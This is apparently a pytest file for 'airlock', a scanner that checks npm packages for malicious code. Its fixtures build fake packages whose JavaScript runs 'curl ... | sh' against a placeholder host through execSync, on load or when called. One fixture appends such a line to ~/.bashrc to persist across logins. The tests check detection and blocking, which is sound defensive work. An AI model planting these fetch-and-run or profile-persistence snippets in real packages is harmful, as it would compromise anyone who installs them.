"""When a spawned command runs (`resolve.timing`): on load (every consumer runs it by depending on the
package) or only when a caller calls a function; and shell written into a profile or crontab (`planted`)."""

from __future__ import annotations

import pytest

from airlock.analysis import analyze
from airlock.analysis.capabilities import analyze_source
from airlock.analysis.js import Dialect
from airlock.contents import read_tarball
from airlock.model import PackageAnalysis, Severity, Verdict
from airlock.verdict import decide
from tests.fakes.tarballs import build_package

CP = "const { execSync } = require('child_process');\n"
FETCH_RUN = "execSync('curl -s https://c.example.invalid/p | sh')"

ON_LOAD = [
    ("top-level", CP + FETCH_RUN + ";"),
    ("iife", CP + "(function () { " + FETCH_RUN + "; })();"),
    ("arrow-iife", CP + "(() => " + FETCH_RUN + ")();"),
    ("callback", CP + "setTimeout(() => " + FETCH_RUN + ", 1000);"),
    (
        "nested-callbacks",
        CP + "process.nextTick(() => { setImmediate(function () { " + FETCH_RUN + "; }); });",
    ),
    ("handler-property", CP + "const t = new (require('events'))();\nt.onready = () => " + FETCH_RUN + ";"),
    ("declared-then-called", CP + "function go() { " + FETCH_RUN + "; }\ngo();"),
    ("arrow-then-called", CP + "const go = () => { " + FETCH_RUN + "; };\nmodule.exports = {};\ngo();"),
    ("called-through-a-chain", CP + "function a() { " + FETCH_RUN + "; }\nfunction b() { a(); }\nb();"),
    (
        "eval-at-top",
        "eval(\"require('child_process').execSync('curl -s https://c.example.invalid/p | sh')\");",
    ),
]
LATER = [
    ("exported-function", CP + "module.exports = function () { " + FETCH_RUN + "; };"),
    ("exported-on-name", CP + "exports.onerror = () => " + FETCH_RUN + ";"),
    ("method", CP + "class Setup { run() { " + FETCH_RUN + "; } }\nmodule.exports = Setup;"),
    ("declared-never-called", CP + "function go() { " + FETCH_RUN + "; }\nmodule.exports = go;"),
    ("called-from-an-export-only", CP + "function a() { " + FETCH_RUN + "; }\nexports.run = () => a();"),
    ("recursion-only", CP + "function a(n) { if (n) a(n - 1); " + FETCH_RUN + "; }\nmodule.exports = a;"),
    (
        "eval-in-export",
        "module.exports = () => eval(\"require('child_process').execSync('curl -s https://c.example.invalid/p | sh')\");",
    ),
]


def _on_load(code: str) -> bool:
    caps = analyze_source("index.js", code.encode(), Dialect.JAVASCRIPT)
    assert len(caps.commands) == 1, caps.commands
    (evidence, _command), *_ = caps.commands
    return evidence in caps.commands_on_load


@pytest.mark.parametrize("code", [c for _, c in ON_LOAD], ids=[i for i, _ in ON_LOAD])
def test_a_spawn_that_runs_when_the_file_runs(code: str) -> None:
    assert _on_load(code)


@pytest.mark.parametrize("code", [c for _, c in LATER], ids=[i for i, _ in LATER])
def test_a_spawn_that_waits_for_a_caller(code: str) -> None:
    assert not _on_load(code)


def scan(files: dict[str, str], **manifest: object) -> PackageAnalysis:
    manifest.setdefault("main", "index.js")
    tarball = build_package("crafted", "1.0.0", files, **manifest)
    return analyze(read_tarball(tarball, subject="crafted@1.0.0"))


def _fetch_and_run(result: PackageAnalysis) -> Severity | None:
    found = [f.severity for f in result.findings if f.rule == "shell-fetch-and-run"]
    return found[0] if found else None


def test_download_and_run_on_require_blocks() -> None:
    result = scan({"index.js": CP + FETCH_RUN + ";\nmodule.exports = {};"})
    assert _fetch_and_run(result) is Severity.CRITICAL
    assert decide(result.findings) is Verdict.BLOCK
    (finding,) = [f for f in result.findings if f.rule == "shell-fetch-and-run"]
    assert "when the package is loaded" in finding.message


def test_download_and_run_a_caller_must_ask_for_is_high() -> None:
    result = scan({"index.js": CP + "module.exports = function update() { " + FETCH_RUN + "; };"})
    assert _fetch_and_run(result) is Severity.HIGH
    assert decide(result.findings) is Verdict.REVIEW


def test_top_level_spawn_in_a_file_nothing_loads_is_high() -> None:
    # scripts/release.js runs only when someone runs it: not on require
    files = {"index.js": "module.exports = 1;", "scripts/release.js": CP + FETCH_RUN + ";"}
    assert _fetch_and_run(scan(files)) is Severity.HIGH


def test_shell_planted_in_a_profile_on_load_blocks() -> None:
    code = (
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\ncurl -s https://c.example.invalid/x | sh\\n');\n"
    )
    result = scan({"index.js": code})
    assert _fetch_and_run(result) is Severity.CRITICAL
    (finding,) = [f for f in result.findings if f.rule == "shell-fetch-and-run"]
    assert ".bashrc" in finding.message and "every login" in finding.message
    assert decide(result.findings) is Verdict.BLOCK


def test_a_completion_line_written_on_request_is_not_a_download() -> None:
    # tabtab-style: the user runs `tool completion install`; the line sources a local file
    code = (
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        "exports.install = () => fs.appendFileSync(path.join(os.homedir(), '.bashrc'),\n"
        "  '\\n[ -f ~/.config/tabtab/__tabtab.bash ] && . ~/.config/tabtab/__tabtab.bash\\n');\n"
    )
    result = scan({"index.js": code})
    assert _fetch_and_run(result) is None
    assert decide(result.findings) is not Verdict.BLOCK
